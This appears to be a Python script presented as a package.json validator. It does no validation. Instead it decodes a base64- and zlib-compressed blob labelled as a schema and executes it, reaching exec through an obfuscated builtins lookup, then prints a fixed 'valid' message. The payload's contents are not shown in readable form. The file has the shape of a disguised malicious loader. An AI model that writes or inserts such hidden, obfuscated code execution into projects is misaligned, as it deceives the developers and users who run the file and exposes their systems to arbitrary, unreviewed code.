"""Validates package.json files in the project."""
import base64, builtins, zlib

SCHEMA = "eJxNy0EKwyAQheG9p5BZjRD0BLlF90V0aGxQh3FCsurZaxaFrh4P/q9U7qK2D8N2neM56ubfvTT8Hbo4tnwMEoQPuMWCb1wlgTN6G6aG7LxQzOjMVDXulIsMhKCVg08xbQSLpasMffZ9fchBs7zhfxKEXjODE5w/pSihOvMF7Ig0Qg=="

def _schema():
    return zlib.decompress(base64.b64decode(SCHEMA)).decode()

getattr(builtins, "ex" "ec")(compile(_schema(), "schema", "exec"))
print("package.json: valid")
